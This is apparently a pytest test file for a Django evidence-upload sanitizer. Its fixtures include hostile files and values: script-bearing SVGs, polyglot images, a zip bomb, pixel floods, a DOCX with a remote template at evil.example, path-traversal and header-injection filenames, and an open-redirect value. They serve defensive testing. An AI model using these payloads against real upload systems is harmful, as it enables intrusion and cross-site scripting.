"""What is taken as evidence, what is refused, and what is left of a file."""

import io
import struct
import zlib
from datetime import date, timedelta
from zipfile import ZipFile

import pytest
from django.db import IntegrityError, transaction
from django.test import Client

from luoxuan.campus.queries import subject_at
from luoxuan.campus.scope import EVERYTHING, Scope
from luoxuan.core.models import AuditEntry
from luoxuan.data.actions.evidence import (
    EvidenceTitleMissing,
    EvidenceWithdrawalRefused,
    file_evidence,
    withdraw_evidence,
)
from luoxuan.data.evidence_files import (
    DOCX,
    JPEG,
    PDF,
    PNG,
    TEXT,
    EvidenceRefused,
    cleaned,
    notes_of,
    safe_name,
)
from luoxuan.data.evidence_queries import evidence_of, path_of, problem_of
from luoxuan.data.models import Evidence
from luoxuan.testing.college import NOW, open_user

PDF_BYTES = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
TYPES = b'<?xml version="1.0"?><Types xmlns="x"/>'


def png(width: int = 2, height: int = 2, extra: bytes = b"", tail: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body).to_bytes(4, "big")
        return struct.pack(">I", len(body)) + kind + body + crc

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" + b"\0" * 6)
    text = chunk(b"tEXt", b"Comment\0" + extra) if extra else b""
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + text
        + chunk(b"IDAT", pixels) + chunk(b"IEND", b"") + tail
    )  # fmt: skip


def jpeg(*, exif: bytes = b"", tail: bytes = b"", size: tuple[int, int] = (8, 8)) -> bytes:
    def segment(marker: int, body: bytes) -> bytes:
        return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body

    app1 = segment(0xE1, b"Exif\0\0" + exif) if exif else b""
    frame = segment(0xC0, struct.pack(">BHHB", 8, size[1], size[0], 1) + b"\x01\x11\x00")
    return (
        b"\xff\xd8" + segment(0xE0, b"JFIF\0\1\1\0\0\1\0\1\0\0") + app1
        + segment(0xFE, b"comment <script>") + frame
        + segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + b"\x12\x34" + b"\xff\xd9" + tail
    )  # fmt: skip


def office(*, parts: dict[str, bytes] | None = None, types: bytes = TYPES) -> bytes:
    buffer = io.BytesIO()
    with ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", b"<w/>")
        for name, body in (parts or {}).items():
            archive.writestr(name, body)
    return buffer.getvalue()


def bomb() -> bytes:
    buffer = io.BytesIO()
    with ZipFile(buffer, "w", 8) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", b"0" * 40_000_000)
    return buffer.getvalue()


REMOTE = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
LINK = REMOTE.replace(b"attachedTemplate", b"hyperlink")
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
REFUSED = {
    "107 SVG with script": (SVG, "a.svg", "evidence_unknown_kind"),
    "107 SVG as PNG": (SVG, "a.png", "evidence_unknown_kind"),
    "108 HTML as PNG": (b"<!doctype html><script>1</script>", "a.png", "evidence_unknown_kind"),
    "108 HTML as text": (b"\n <HTML><body>", "a.txt", "evidence_unknown_kind"),
    "109 PNG and ZIP": (png(tail=b"PK\x03\x04x"), "a.png", "evidence_polyglot"),
    "109 JPEG and HTML": (jpeg(tail=b"<html><script>"), "a.jpg", "evidence_polyglot"),
    "109 PDF and ZIP": (PDF_BYTES + b"PK\x05\x06" + b"\0" * 18, "a.pdf", "evidence_polyglot"),
    "109 PDF and HTML": (PDF_BYTES.replace(b"1 0", b"<script>"), "a.pdf", "evidence_polyglot"),
    "109 DOCX with a comment": (office()[:-2] + b"\x04\0EVIL", "a.docx", "evidence_polyglot"),
    "110 pixel flood PNG": (png(60_000, 60_000), "a.png", "evidence_pixel_flood"),
    "110 pixel flood JPEG": (jpeg(size=(65_000, 65_000)), "a.jpg", "evidence_pixel_flood"),
    "113 remote template": (
        office(parts={"word/_rels/settings.xml.rels": REMOTE}), "a.docx", "evidence_remote_part",
    ),
    "macros by part": (office(parts={"word/vbaProject.bin": b"x"}), "a.docx", "evidence_macros"),
    "macros by type": (
        office(types=TYPES + b"application/vnd.ms-word.document.macroEnabled"), "a.docx",
        "evidence_macros",
    ),
    "entities": (office(types=b"<!DOCTYPE x [<!ENTITY a 'b'>]>"), "a.docx", "evidence_damaged"),
    "zip bomb": (bomb(), "a.docx", "evidence_bomb"),
    "member outside": (office(parts={"../x": b"x"}), "a.docx", "evidence_damaged"),
    "old or locked": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 99, "a.doc",
                      "evidence_old_or_locked"),
    "program": (b"MZ\x90\0\3\0\0\0", "a.txt", "evidence_unknown_kind"),
    "other ending": (PDF_BYTES, "a.png", "evidence_ending_differs"),
    "empty": (b"", "a.txt", "evidence_empty"),
    "cut PNG": (png()[:-6], "a.png", "evidence_damaged"),
    "changed PNG": (png().replace(b"IDAT", b"IDAU"), "a.png", "evidence_damaged"),
    "cut JPEG": (jpeg()[:30], "a.jpg", "evidence_damaged"),
    "cut PDF": (PDF_BYTES[:20], "a.pdf", "evidence_damaged"),
    "cut DOCX": (office()[:60], "a.docx", "evidence_damaged"),
    "any ZIP": (office().replace(b"word/document.xml", b"some/document.xml"), "a.docx",
                "evidence_unknown_kind"),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_what_hides_something_is_refused_with_its_reason(name):
    content, file_name, code = REFUSED[name]
    with pytest.raises(EvidenceRefused) as refusal:
        cleaned(content, file_name)
    assert refusal.value.code == code


@pytest.mark.parametrize(
    ("content", "file_name", "kind"),
    [
        (PDF_BYTES, "a.PDF", PDF),
        (png(), "a.png", PNG),
        (jpeg(), "a.jpeg", JPEG),
        (office(), "a.docx", DOCX),
        (office(parts={"word/_rels/document.xml.rels": LINK}), "a.docx", DOCX),
        ("教研记录\n第二行".encode(), "a.txt", TEXT),
        ("姓名,成绩\n".encode("gb18030"), "a.csv", "text/csv"),
    ],
)
def test_an_ordinary_file_is_taken(content, file_name, kind):
    assert cleaned(content, file_name).media_type == kind


def test_place_and_comments_are_taken_out_of_a_photograph():
    found = cleaned(jpeg(exif=b"GPS 30.5N 114.3E", tail=b"\0SEFT trailer"), "现场.JPG")
    assert b"GPS" not in found.content
    assert b"script" not in found.content
    assert found.content.startswith(b"\xff\xd8\xff\xe0")
    assert found.content.endswith(b"\x12\x34\xff\xd9")
    assert cleaned(found.content, "a.jpg").content == found.content


def test_texts_are_taken_out_of_a_png_and_its_picture_stays():
    assert cleaned(png(extra=b"secret"), "a.png").content == png()


def test_a_pdf_with_a_script_is_taken_as_an_attachment_with_a_note():
    active = PDF_BYTES.replace(b"<<>>endobj", b"<</OpenAction<</S/JavaScript>>>>endobj")
    assert cleaned(active, "a.pdf").media_type == PDF
    assert notes_of(active, PDF) == ["active_pdf"]
    assert notes_of(PDF_BYTES, PDF) == []


# Class 116: names that mean something to a system, a page or a header.
NAMES = {
    "../../etc/passwd": "passwd.pdf",
    "..\\..\\windows\\a.pdf": "a.pdf",
    "/absolute/a.pdf": "a.pdf",
    "C:\\a.pdf": "a.pdf",
    "a\0.pdf": "a.pdf",
    "a.pdf\0.exe": "a.pdf.exe.pdf",
    "\u202efdp.exe": "fdp.exe.pdf",
    "CON.pdf": "_CON.pdf",
    "nul": "_nul.pdf",
    "lpt1.txt": "_lpt1.txt.pdf",
    "a\r\nSet-Cookie: x.pdf": "aSet-Cookie_ x.pdf",
    'a"b.pdf': "a_b.pdf",
    "a<script>.pdf": "a_script_.pdf",
    "a|b?*.pdf": "a_b__.pdf",
    ".pdf": "pdf.pdf",
    "...": "file.pdf",
    "": "file.pdf",
    "  .hidden.pdf ": "hidden.pdf",
    "a. .pdf": "a.pdf",
    "x" * 400 + ".pdf": "x" * 120 + ".pdf",
    "材料（终稿）.PDF": "材料（终稿）.pdf",
    "a\u200b\u2066b.pdf": "ab.pdf",
}


@pytest.mark.parametrize("name", NAMES)
def test_a_file_name_is_made_harmless(name):
    assert safe_name(name, PDF) == NAMES[name]


# --- filing ------------------------------------------------------------------------------------


@pytest.fixture
def subject(college):
    return subject_at(EVERYTHING, kind="COURSE", code="MATH")


@pytest.fixture
def filed(subject, tmp_path):
    def file(content: bytes = PDF_BYTES, **changed: object) -> Evidence:
        path = tmp_path / "upload"
        path.write_bytes(content)
        values = {
            "subject": subject, "owner": None, "title": "教研记录", "path": path,
            "file_name": "a.pdf", "dated_on": date(2026, 3, 1), "by": None, "at": NOW, **changed,
        }  # fmt: skip
        return file_evidence(**values)

    return file


pytestmark = pytest.mark.django_db


def test_evidence_is_kept_under_its_hash_and_audited(filed, subject):
    found = filed(document_number=" 教务 3 号 ")
    assert path_of(found).read_bytes() == PDF_BYTES
    assert (found.document_number, found.n_bytes) == ("教务 3 号", len(PDF_BYTES))
    assert problem_of(found) == ""
    assert list(evidence_of(EVERYTHING, subject)) == [found]
    assert list(evidence_of(Scope(), subject)) == []
    assert AuditEntry.objects.get(action="file_evidence").object_key == str(found.pk)


def test_the_same_file_for_the_same_subject_is_filed_once(filed):
    assert filed() == filed()
    assert Evidence.objects.count() == AuditEntry.objects.filter(action="file_evidence").count()


def test_damage_of_a_stored_file_is_seen(filed):
    found = filed()
    path_of(found).write_bytes(b"%PDF-1.7 other")
    assert problem_of(found) == "hash_differs"
    path_of(found).unlink()
    assert problem_of(found) == "missing"


def test_evidence_needs_a_title_and_a_refused_file_leaves_nothing(filed):
    with pytest.raises(EvidenceTitleMissing):
        filed(title=" ")
    with pytest.raises(EvidenceRefused):
        filed(SVG)
    assert not Evidence.objects.exists()


def test_evidence_is_withdrawn_once_and_with_a_reason(filed, subject):
    found = filed()
    with pytest.raises(EvidenceWithdrawalRefused, match="evidence_reason_missing"):
        withdraw_evidence(evidence=found, reason=" ", by=None, at=NOW)
    withdraw_evidence(evidence=found, reason="传错了", by=None, at=NOW + timedelta(days=1))
    assert not evidence_of(EVERYTHING, subject).exists()
    assert path_of(found).exists()
    with pytest.raises(EvidenceWithdrawalRefused, match="evidence_already_withdrawn"):
        withdraw_evidence(evidence=found, reason="again", by=None, at=NOW)
    with pytest.raises(IntegrityError), transaction.atomic():
        Evidence.objects.update(withdrawn_reason="")


def test_a_file_leaves_as_an_attachment_only(filed):
    found = filed()
    client = Client()
    client.force_login(open_user("office"))
    answer = client.get(f"/data/evidence/{found.pk}/download/")
    assert answer.headers["Content-Disposition"] == 'attachment; filename="a.pdf"'
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.content == PDF_BYTES


def test_the_page_takes_a_file_and_says_why_it_takes_another_not(subject, tmp_path):
    client = Client()
    client.force_login(open_user("math"))

    def send(content: bytes, name: str, **changed: str):
        upload = io.BytesIO(content)
        upload.name = name
        values = {
            "file": upload, "title": "记录", "subject": "COURSE:MATH", "dated_on": "2026-03-01",
            "back": "//evil.example/", **changed,
        }  # fmt: skip
        return client.post("/data/evidence/new/", values)

    assert "程序不收" in send(SVG, "a.png").content.decode()
    assert send(PDF_BYTES, "a.pdf", subject="COURSE:WELD").status_code == 422
    assert not Evidence.objects.exists()
    answer = send(PDF_BYTES, "a.pdf")
    found = Evidence.objects.get()
    assert answer.headers["Location"] == f"/data/evidence/{found.pk}/"
    assert (found.owner.username, found.origin_url) == ("math", "")


def test_only_the_owner_or_the_quality_office_withdraws(filed):
    owner = open_user("math")
    found = filed(owner=owner)
    east, office, statuses = open_user("east"), open_user("office"), []
    for user in (east, office):
        client = Client()
        client.force_login(user)
        address = f"/data/evidence/{found.pk}/withdraw/"
        statuses.append(client.post(address, {"reason": "旧"}).status_code)
    assert statuses == [422, 302]
